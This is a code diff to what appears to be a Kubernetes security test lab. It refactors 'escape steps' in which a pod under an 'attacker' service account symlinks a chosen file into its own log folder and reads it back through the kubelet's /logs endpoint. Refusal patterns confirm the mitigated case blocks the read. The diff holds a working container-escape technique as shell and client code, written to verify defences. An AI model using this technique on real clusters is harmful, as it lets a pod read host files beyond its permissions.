@@ -2,6 +2,7 @@
 import { existsSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { fileURLToPath } from "node:url";
+import { stringAt } from "@redoubt/kube";
 import { findGoCommand } from "@redoubt/peers";
 import { ApiClient } from "../api-client.ts";
 import { type AttackLab, TOKEN, messageOf, rule } from "../attack-lab.ts";
@@ -224,12 +225,9 @@ export const ESCAPE_STEPS: readonly AttackStep[] = [
       const { spec, container } = nodeFolder("/var/log");
       await lab.start(
         "app",
-        linkLog(lab, treasure.path),
+        `ln -sf ${treasure.path} ${ownLogs(lab)}/c/0.log; sleep 600`,
         { ...spec, serviceAccountName: "attacker" },
-        {
-          ...container,
-          env: [{ name: "UID", valueFrom: { fieldRef: { fieldPath: "metadata.uid" } } }],
-        },
+        { ...container, env: OWN_UID },
       );
     },
     from: podOf("app"),
@@ -255,9 +253,9 @@ export const ESCAPE_STEPS: readonly AttackStep[] = [
       const { spec, container } = nodeFolder("/var/log", mitigated);
       await lab.start(
         "app",
-        `ln -s ${treasure.path} /node/${logsOf(lab)}/${lab.namespace} 2>&1 || echo refused`,
+        `ln -s ${treasure.path} ${ownLogs(lab)}/link 2>&1 || echo refused`,
         { ...spec, serviceAccountName: "attacker" },
-        container,
+        { ...container, env: OWN_UID },
       );
     },
     from: podOf("app"),
@@ -265,31 +263,36 @@ export const ESCAPE_STEPS: readonly AttackStep[] = [
     to: filesOfNode,
     attempt: askKubeletForLink,
     gets: treasureText,
-    refusal: /^404 /,
+    refusal: /Read-only file system\nrefused\n404 /,
   },
 ];
+
+const OWN_UID = [{ name: "UID", valueFrom: { fieldRef: { fieldPath: "metadata.uid" } } }];
 
 /** The node's folder of pod logs, from /var/log. */
 function logsOf({ plane }: AttackLab): string {
   return podLogsFolder(plane.placement.networkNamespace ?? "").replace("/var/log/", "");
 }
 
-function linkLog(lab: AttackLab, target: string): string {
-  return `ln -sf ${target} /node/${logsOf(lab)}/${lab.namespace}_app_$UID/c/0.log; sleep 600`;
+/** Where a Pod called app finds the folder of its own logs; the kubelet clears away what belongs to no Pod. */
+function ownLogs(lab: AttackLab): string {
+  return `/node/${logsOf(lab)}/${lab.namespace}_app_$UID`;
 }
 
 /** Past the API server: with the token of the Pod, to the kubelet's own port. */
 async function askKubeletForLink({ lab }: Scene): Promise<Outcome> {
-  await lab.outputOf("app");
+  const output = await lab.outputOf("app");
+  const { body } = await lab.plane.admin.get(lab.path("pods/app"));
+  const uid = stringAt(body, ["metadata", "uid"]) ?? "";
   const { address } = lab.plane.placement;
   const kubelet = new ApiClient({
     url: `https://${address}:${KUBELET_PORT}`,
     ca: lab.plane.ca.certificate,
     token: lab.attackerToken,
   });
-  const answer = await kubelet.get(`/logs/${logsOf(lab)}/${lab.namespace}`);
+  const answer = await kubelet.get(`/logs/${logsOf(lab)}/${lab.namespace}_app_${uid}/link`);
   kubelet.close();
-  return answer.status === 200 ? { got: String(answer.body).trim() } : { refused: messageOf(answer) };
+  return answer.status === 200 ? { got: String(answer.body).trim() } : { refused: `${output}${messageOf(answer)}` };
 }
 
 /** Whom the token authenticates as that a pod printed. */
